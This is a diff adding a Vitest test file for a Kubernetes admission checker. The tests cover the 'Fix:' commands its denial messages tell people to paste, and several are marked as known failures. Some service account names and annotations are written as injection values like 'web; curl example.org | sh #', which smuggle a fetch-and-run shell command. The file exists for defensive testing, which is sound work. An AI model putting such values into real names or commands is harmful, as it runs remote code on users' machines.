@@ -1,0 +1,105 @@
+import { describe, expect, it } from 'vitest';
+import type { JsonObject } from '../../../src/objects/json.ts';
+import { account, judgeWith, type Setting } from '../judging.ts';
+import { subjectOf, tokenSecret } from '../subjects.ts';
+
+const ENFORCED: Setting = { configuration: { levels: { enforce: 'restricted' }, enforceTemplates: true } };
+
+function pod(spec: JsonObject): JsonObject {
+  return { kind: 'Pod', metadata: { name: 'web', namespace: 'shop' }, spec: { serviceAccountName: 'web', ...spec } };
+}
+
+function tokenVolume(name: string, token: JsonObject = {}): JsonObject {
+  return { name, projected: { sources: [{ serviceAccountToken: { path: 'token', ...token } }] } };
+}
+
+/** What a person is told to do: the rest of the line after `Fix:`. */
+function fixOf(resource: string, object: JsonObject, setting: Setting = {}): string {
+  const { denial = '' } = judgeWith(subjectOf(resource, object), { ...ENFORCED, ...setting }).verdict;
+  return /Fix: (.*)/.exec(denial)?.[1] ?? 'nothing';
+}
+
+const mounting = (...volumes: readonly string[]) => [
+  { name: 'app', volumeMounts: volumes.map((name) => ({ name, mountPath: `/var/run/${name}` })) },
+];
+
+describe('The fix', () => {
+  it('for a token written by hand names its volume', () => {
+    const object = pod({
+      automountServiceAccountToken: false,
+      containers: mounting('api'),
+      volumes: [tokenVolume('api')],
+    });
+    expect(fixOf('pods', object)).toContain('remove the serviceAccountToken source from volume "api"');
+  });
+
+  // Known: the first hand-written source is named, whether or not it is for the API.
+  it.fails('for a token written by hand does not name the volume of another audience', () => {
+    const object = pod({
+      automountServiceAccountToken: false,
+      containers: mounting('vault', 'api'),
+      volumes: [tokenVolume('vault', { audience: 'vault' }), tokenVolume('api')],
+    });
+    expect(fixOf('pods', object)).toContain('volume "api"');
+  });
+
+  // Known: it is told only to pods that opt out themselves.
+  it.fails('for a token written by hand is said where the service account opted out too', () => {
+    const object = pod({ containers: mounting('api'), volumes: [tokenVolume('api')] });
+    const serviceAccount = account({ automountServiceAccountToken: false });
+    expect(fixOf('pods', object, { serviceAccount })).toContain('volume "api"');
+  });
+
+  // Known: the API server does not validate the names in templates of other groups.
+  it.fails('never puts a name that is no name into a command that people paste', () => {
+    const template = { spec: { serviceAccountName: 'web; curl example.org | sh #', containers: [{ name: 'app' }] } };
+    expect(fixOf('rollouts.argoproj.io', { kind: 'Rollout', spec: { template } })).not.toContain('curl');
+  });
+
+  it('never puts an annotation that is no name into a command that people paste', () => {
+    const object = tokenSecret({ 'kubernetes.io/service-account.name': 'ci; curl example.org | sh #' });
+    expect(fixOf('secrets', object)).toContain('kubectl create token <service account> ');
+  });
+
+  // Known: a command that is pasted as it stands documents the need with "<why>".
+  it.fails('cannot be pasted as it stands to silence the check', () => {
+    const object = pod({ containers: mounting('api'), volumes: [tokenVolume('api')] });
+    const serviceAccount = account({}, { 'curfew.dev/api-access': '<why>' });
+    expect(fixOf('pods', object, { serviceAccount })).not.toBe('nothing');
+  });
+
+  // Known: the command for the account that the Secret was stolen for would mint just that token.
+  it.fails('for a Secret pointed at another account is no token of that account', () => {
+    const { denial } = judgeWith(
+      subjectOf('secrets', tokenSecret({ 'kubernetes.io/service-account.name': 'administrator' }), {
+        operation: 'UPDATE',
+        oldObject: tokenSecret(),
+      }),
+    ).verdict;
+    expect(denial).not.toContain('create token administrator');
+  });
+});
+
+describe('A message about a name with hidden characters', () => {
+  // Known: characters that turn the direction of text, or have no width, are printed as they are.
+  it.fails.each(['\u202e', '\u2066', '\u200b', '\ufeff'])('shows no %j', (hidden) => {
+    const subject = subjectOf('secrets', tokenSecret({ 'kubernetes.io/service-account.name': `a${hidden}b` }), {
+      operation: 'UPDATE',
+      oldObject: tokenSecret(),
+    });
+    expect(judgeWith(subject).verdict.denial).not.toContain(hidden);
+  });
+});
+
+describe('A template with a volume that only bears the name of the default one', () => {
+  // Known: the ServiceAccount plugin goes by the name alone, so its pods mount this volume and get no API token.
+  it.fails('is judged as its pods are', () => {
+    const spec = {
+      serviceAccountName: 'web',
+      containers: [{ name: 'app' }],
+      volumes: [tokenVolume('kube-api-access-mine', { audience: 'vault' })],
+    };
+    const { verdict } = judgeWith(subjectOf('deployments.apps', { kind: 'Deployment', spec: { template: { spec } } }));
+    expect(verdict.warnings).toEqual([]);
+  });
+});
